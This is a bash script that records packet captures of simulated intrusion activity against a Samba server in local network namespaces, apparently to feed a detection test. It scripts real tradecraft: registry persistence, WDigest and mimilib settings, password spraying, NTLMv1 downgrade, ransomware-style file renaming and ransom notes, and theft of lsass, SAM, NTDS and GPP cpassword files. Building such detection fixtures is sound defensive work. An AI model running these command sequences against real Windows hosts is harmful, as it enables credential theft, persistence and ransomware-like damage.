#!/usr/bin/env bash
# Records what Samba's own clients do to a Samba server, between two network namespaces of this machine: the captures
# beside this file, which test/detect/proof.ts names. Needs root, samba, smbclient, tcpdump and iproute2.
#
# usage: record.sh OUTDIR
set -euo pipefail
out=$(cd "${1:?usage: record.sh OUTDIR}" && pwd)
id=$$ srv=rec-srv-$$ cli=rec-cli-$$ user=ssales password='Passw0rd!'
dir=$(mktemp -d /tmp/hoptrace-record.XXXXXX); chmod 755 "$dir"
mkdir -p "$dir"/{share,admin,c,sysvol,netlogon,ncalrpc,work}; chmod 777 "$dir"/{share,admin,c,sysvol,netlogon,work}
cleanup() {
  set +e
  [ -s "$dir/tcpdump.pid" ] && kill "$(cat "$dir/tcpdump.pid")" 2>/dev/null
  for p in "$dir"/*.pid; do [ -s "$p" ] && kill "$(cat "$p")" 2>/dev/null; done
  sleep 0.3
  ip netns del "$srv" 2>/dev/null; ip netns del "$cli" 2>/dev/null
  rm -rf "$dir"
  userdel rechelper 2>/dev/null
  return 0
}
trap cleanup EXIT
id "$user" >/dev/null 2>&1 || useradd -M -s /usr/sbin/nologin "$user"
cat > "$dir/smb.conf" <<CONF
[global]
  workgroup = LAB
  netbios name = SALES-PC
  security = user
  map to guest = bad user
  ntlm auth = ntlmv1-permitted
  passdb backend = tdbsam:$dir/passdb.tdb
  private dir = $dir
  lock directory = $dir
  state directory = $dir
  cache directory = $dir
  pid directory = $dir
  ncalrpc dir = $dir/ncalrpc
  log file = $dir/log.%m
  add share command = /bin/true
  delete share command = /bin/true
  change share command = /bin/true
  add user script = /usr/sbin/useradd -M -s /usr/sbin/nologin %u
  delete user script = /usr/sbin/userdel %u
  shutdown script = /bin/true
  abort shutdown script = /bin/true
[share]
  path = $dir/share
  read only = no
[ADMIN\$]
  path = $dir/admin
  read only = no
  valid users = root
[C\$]
  path = $dir/c
  read only = no
[SYSVOL]
  path = $dir/sysvol
  read only = no
[NETLOGON]
  path = $dir/netlogon
  read only = no
[public]
  path = $dir/share
  guest ok = yes
CONF
for name in "$user" root daemon bin sys games man lp; do
  printf '%s\n%s\n' "$password" "$password" | smbpasswd -c "$dir/smb.conf" -s -a "$name" >/dev/null
done
ip netns add "$srv"; ip netns add "$cli"
ip link add "rs$id" type veth peer name "rc$id"
ip link set "rs$id" netns "$srv"; ip link set "rc$id" netns "$cli"
for host in $(seq 133 156); do ip -n "$srv" addr add "10.0.0.$host/24" dev "rs$id"; done
ip -n "$cli" addr add 10.0.0.130/24 dev "rc$id"
for ns in "$srv:rs$id" "$cli:rc$id"; do
  ip -n "${ns%%:*}" link set lo up; ip -n "${ns%%:*}" link set "${ns##*:}" up mtu 1500
done
ip netns exec "$srv" smbd -D -s "$dir/smb.conf"
for _ in $(seq 100); do ip netns exec "$cli" bash -c '</dev/tcp/10.0.0.133/445' 2>/dev/null && break; sleep 0.1; done

c() { ip netns exec "$cli" "$@" >>"$dir/client.log" 2>&1 || echo "note: exit $? for: $*" >&2; }
smb() { local share=$1; shift; c smbclient -s "$dir/smb.conf" -U "$user%$password" "$share" "$@"; }
rpc() { c net -s "$dir/smb.conf" rpc "$@" -I 10.0.0.133 -U "root%$password"; }
start() {
  ip netns exec "$srv" tcpdump -i "rs$id" -s 0 -B 65536 -U -w "$dir/cap.pcap" 2>"$dir/tcpdump.log" & echo $! > "$dir/tcpdump.pid"
  for _ in $(seq 100); do grep -q listening "$dir/tcpdump.log" 2>/dev/null && break; sleep 0.1; done; sleep 0.3
}
stop() {
  sleep 2.5
  kill "$(cat "$dir/tcpdump.pid")"; wait "$(cat "$dir/tcpdump.pid")" 2>/dev/null || true; : > "$dir/tcpdump.pid"
  gzip -9nc "$dir/cap.pcap" > "$out/$1.pcap.gz"
  echo "$1: $(stat -c %s "$out/$1.pcap.gz") bytes"
}

start
run='HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run'
lsa='HKLM\SYSTEM\CurrentControlSet\Control\Lsa'
for key in "$run" "$lsa" 'HKLM\SYSTEM\CurrentControlSet\Services\Updater' \
  'HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest' 'HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server' \
  'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System'; do rpc registry createkey "$key"; done
rpc registry setvalue "$run" Updater sz 'C:\ProgramData\updater.exe'
rpc registry setvalue 'HKLM\SYSTEM\CurrentControlSet\Services\Updater' ImagePath sz 'C:\ProgramData\updater.exe'
rpc registry setvalue 'HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest' UseLogonCredential dword 1
rpc registry setvalue 'HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server' fDenyTSConnections dword 0
rpc registry setvalue 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System' LocalAccountTokenFilterPolicy dword 1
rpc registry setvalue "$lsa" DisableRestrictedAdmin dword 0
rpc registry setvalue "$lsa" 'Security Packages' multi_sz kerberos mimilib
rpc registry enumerate HKU
rpc registry getvalue "$run" Updater
rpc registry save 'HKLM\SYSTEM' '..\Temp\kRtYpLqW.tmp'
stop registry

start
c rpcclient -s "$dir/smb.conf" 10.0.0.133 -U "root%$password" -c 'createdomuser rechelper'
c rpcclient -s "$dir/smb.conf" 10.0.0.133 -U "root%$password" -c 'setuserinfo2 rechelper 24 Passw0rd!3'
rpc rights grant rechelper SeDiskOperatorPrivilege
c rpcclient -s "$dir/smb.conf" 10.0.0.133 -U "root%$password" -c "netshareadd $dir/share extra 5 remark"
rpc shutdown -r -f -t 0 -C goodbye
rpc abortshutdown
stop accounts

start
for host in $(seq 133 156); do ip netns exec "$cli" bash -c "</dev/tcp/10.0.0.$host/135" 2>/dev/null || true; done
for host in $(seq 133 138); do
  smb "//10.0.0.$host/C\$" -c "put /bin/true agent.exe"
  c net -s "$dir/smb.conf" rpc registry enumerate HKLM -I "10.0.0.$host" -U "root%$password"
  c rpcclient -s "$dir/smb.conf" "10.0.0.$host" -U "$user%$password" -c 'netsessenum;netremotetod'
done
stop many-machines

start
for name in daemon bin sys games man lp; do c smbclient -s "$dir/smb.conf" -U "$name%Winter2023" //10.0.0.133/share -c ls; done
for _ in $(seq 21); do c smbclient -s "$dir/smb.conf" -U "$user%wrong" //10.0.0.133/share -c ls; done
smb //10.0.0.133/share -c ls
smb '//10.0.0.133/ADMIN$' -c ls
c smbclient -s "$dir/smb.conf" -U nobodyhere%x //10.0.0.133/public -c ls
smb //10.0.0.133/share --option='client ntlmv2 auth = no' --option='client use spnego = yes' -c ls
stop logons

cd "$dir/work"
for i in $(seq 120); do printf 'document %s\n' "$i" > "doc$i.docx"; done
printf 'Your files have been encrypted.\n' > README_RESTORE.txt
printf 'MDMP\223\247\000\000' > lsass.dmp; head -c 4000 /dev/zero >> lsass.dmp
printf 'regf' > sam.save; head -c 4092 /dev/zero >> sam.save
printf '<Groups><User name="admin"><Properties cpassword="j1Uyj3Vx8TY9LtLZil2uAuZkFQA/4latT76ZwgdHdhw" userName="admin"/></User></Groups>' > Groups.xml
for name in Services ScheduledTasks DataSources Drives; do printf '<%s/>' "$name" > "$name.xml"; done
printf 'net use x: \\\\files\\data\r\n' > logon.bat
printf '[Shell]\r\nIconFile=\\\\10.0.0.130\\x\\y.ico\r\n' > @team.scf
cp lsass.dmp "$dir/c/lsass.dmp"; cp sam.save "$dir/c/sam.save"; cp lsass.dmp "$dir/c/ntds.dit"
cp sam.save "$dir/share/id_rsa"
mkdir -p "$dir/c/Users/ann/AppData/Roaming/Microsoft/Protect/S-1-5-21-1-2-3-1104"
cp sam.save "$dir/c/Users/ann/AppData/Roaming/Microsoft/Protect/S-1-5-21-1-2-3-1104/4e4f"
prefs='lab.local\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\Machine\Preferences'
unixprefs="$dir/sysvol/${prefs//\\//}"; mkdir -p "$unixprefs"; cp ./*.xml "$unixprefs"; chmod -R a+rwX "$dir/sysvol" "$dir/c" "$dir/share"
start
smb //10.0.0.133/share -c 'prompt off; mput doc*.docx; put @team.scf @team.scf; get id_rsa back'
{ for i in $(seq 60); do echo "rename doc$i.docx doc$i.docx.locked"; done
  for i in $(seq 12); do echo "mkdir d$i"; echo "put README_RESTORE.txt d$i\\README_RESTORE.txt"; done
  for i in $(seq 61 120); do echo "rm doc$i.docx"; done
  for i in $(seq 60); do echo "rm doc$i.docx.locked"; done; } > commands
smb //10.0.0.133/share < commands
smb '//10.0.0.133/C$' -c 'get lsass.dmp back; get sam.save back; get ntds.dit back; cd Users\ann\AppData\Roaming\Microsoft\Protect\S-1-5-21-1-2-3-1104; get 4e4f back; cd \; mkdir Temp; put /bin/true Temp\svchost.exe; put /bin/true fresh.tmp; rename fresh.tmp fresh.exe'
smb //10.0.0.133/SYSVOL -c "cd $prefs; get Groups.xml back; get Services.xml back; get ScheduledTasks.xml back; get DataSources.xml back; get Drives.xml back; put ScheduledTasks.xml ScheduledTasks.xml; put Groups.xml Groups.xml"
smb //10.0.0.133/NETLOGON -c 'put logon.bat logon.bat'
stop files
